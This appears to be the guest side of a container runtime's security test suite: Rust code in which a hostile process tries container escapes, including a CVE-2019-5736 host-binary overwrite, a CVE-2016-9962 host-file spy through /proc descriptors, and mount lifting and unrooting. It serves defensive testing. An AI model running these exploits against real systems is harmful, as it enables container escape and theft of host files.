//! What a hostile process inside a container tries (`guest attack …`); the tests judge what it got hold of.

use std::fs::{self, File, OpenOptions};
use std::io::{Read, Write};
use std::os::fd::{AsFd, AsRawFd};
use std::os::unix::fs::OpenOptionsExt;
use std::path::Path;

use nix::mount::{MsFlags, mount};
use serde_json::{Value, json};

use crate::sys;

/// The test writes this file when the attack is to end.
const STOP: &str = "/tmp/stop";
/// Written when the spy has read a file of the host.
const LEAKED: &str = "/tmp/leaked";
const OWN: &str = "/bin/guest";

/// Runs an attack and gives what to print as `{"attack": …}`.
///
/// # Errors
/// There is no such attack.
pub fn act(words: &[&str]) -> Result<Value, String> {
    match words {
        ["exe-overwrite"] => Ok(exe_overwrite()),
        ["spy", secret] => Ok(spy(secret)),
        ["lift", path] => Ok(lift(path)),
        ["unroot"] => unroot().map_err(|e| e.to_string()),
        other => Err(format!("unknown attack {other:?}")),
    }
}

/// Seizes the executable of every process that is not the guest, makes it writable by all means, overwrites it.
///
/// CVE-2019-5736: while the runtime runs in the container, /proc/PID/exe leads to its file on the host.
fn exe_overwrite() -> Value {
    let (mut seized, mut written) = (0, 0);
    let mut seen = vec![];
    while !Path::new(STOP).exists() {
        for pid in pids() {
            let link = format!("/proc/{pid}/exe");
            let Ok(target) = fs::read_link(&link) else { continue };
            if target == Path::new(OWN) || pid == 1 {
                continue;
            }
            let Ok(exe) = File::open(&link) else { continue };
            let Ok(handle) = OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(&link) else { continue };
            seized += 1;
            if !seen.contains(&target) {
                seen.push(target);
            }
            make_writable(&handle, &exe);
            // A file that is being executed cannot be written (ETXTBSY): end the process, then try for a while.
            let _ = nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid), nix::sys::signal::Signal::SIGKILL);
            for _ in 0..200 {
                make_writable(&handle, &exe);
                written += [exe.as_raw_fd(), handle.as_raw_fd()].into_iter().filter(|fd| overwrite(*fd)).count();
            }
        }
    }
    json!({"seized": seized, "written": written, "what": seen})
}

/// Everything that root with CAP_SYS_ADMIN can do about a read-only mount.
fn make_writable(handle: &File, exe: &File) {
    for fd in [handle.as_fd(), exe.as_fd()] {
        let path = format!("/proc/self/fd/{}", fd.as_raw_fd());
        // Whatever the kernel refuses is no way in; whether one of them was shows in overwrite().
        let _ = mount(None::<&str>, path.as_str(), None::<&str>, MsFlags::MS_REMOUNT | MsFlags::MS_BIND, None::<&str>);
        let _ = mount(None::<&str>, path.as_str(), None::<&str>, MsFlags::MS_REMOUNT, None::<&str>);
        let _ = sys::clear_read_only(fd);
    }
}

fn overwrite(fd: i32) -> bool {
    let path = format!("/proc/self/fd/{fd}");
    OpenOptions::new().write(true).open(path).and_then(|mut f| f.write_all(b"#!/bin/owned\n")).is_ok()
}

/// Takes all restrictions off the mount at `path`, and the mount at `sub` below it away.
fn lift(path: &str) -> Value {
    let errno = |result: nix::Result<()>| result.err().map_or(0, |e| e as i32);
    let none = None::<&str>;
    let remounted = mount(none, path, none, MsFlags::MS_REMOUNT | MsFlags::MS_BIND, none);
    json!({"remount": errno(remounted), "umount": errno(nix::mount::umount(&*format!("{path}/sub")))})
}

/// Takes its root away and enters its mount namespace anew, whose root is what was below; tells what is at /proc and /sys.
fn unroot() -> nix::Result<Value> {
    use nix::sched::{CloneFlags, setns};
    let namespace = File::open("/proc/self/ns/mnt").map_err(|e| nix::Error::from_raw(e.raw_os_error().unwrap_or(0)))?;
    nix::mount::umount2("/", nix::mount::MntFlags::MNT_DETACH)?;
    setns(namespace, CloneFlags::CLONE_NEWNS)?;
    let is_tmpfs = |path: &str| Ok(nix::sys::statfs::statfs(path)?.filesystem_type() == nix::sys::statfs::TMPFS_MAGIC);
    let is_outside = !Path::new(OWN).exists();
    Ok(json!({"is_outside": is_outside, "proc": is_tmpfs("/proc")?, "sys": is_tmpfs("/sys")?}))
}

/// Watches processes come into the container and looks for the host's files through their descriptors, root and cwd.
///
/// CVE-2016-9962; `secret` is a file's path on the host. What is read through a process is a leak.
fn spy(secret: &str) -> Value {
    let up = "../".repeat(24);
    let mut leaks = vec![];
    let (mut processes, mut probes, mut rounds) = (0u64, 0u64, 0u64);
    let mut last = pids().into_iter().max().unwrap_or(1);
    while !Path::new(STOP).exists() {
        // New numbers are given in order, but many may go to threads.
        rounds += 1;
        let first = if rounds % 64 == 0 { pids().into_iter().max().unwrap_or(last) } else { last + 1 };
        for pid in first.max(2)..last.max(first) + 6 {
            let dir = format!("/proc/{pid}");
            if !Path::new(&dir).exists() {
                continue;
            }
            processes += 1;
            last = pid;
            while Path::new(&dir).exists() && !Path::new(STOP).exists() {
                let mut doors = vec!["root".to_owned(), "cwd".to_owned()];
                doors.extend((3..24).map(|n| format!("fd/{n}")));
                for door in doors {
                    probes += 1;
                    for path in [format!("{dir}/{door}/{up}{secret}"), format!("{dir}/{door}/{secret}")] {
                        let mut text = String::new();
                        if File::open(&path).and_then(|mut f| f.read_to_string(&mut text)).is_ok() && leaks.len() < 50 {
                            let leak = json!({"door": format!("{dir}/{door}"), "text": text});
                            // If it cannot be written the test waits in vain, and fails.
                            let _ = fs::write(LEAKED, leak.to_string());
                            leaks.push(leak);
                        }
                    }
                }
            }
        }
    }
    json!({"processes": processes, "probes": probes, "leaks": leaks})
}

fn pids() -> Vec<i32> {
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    entries.filter_map(|e| e.file_name().to_string_lossy().parse().ok()).collect()
}
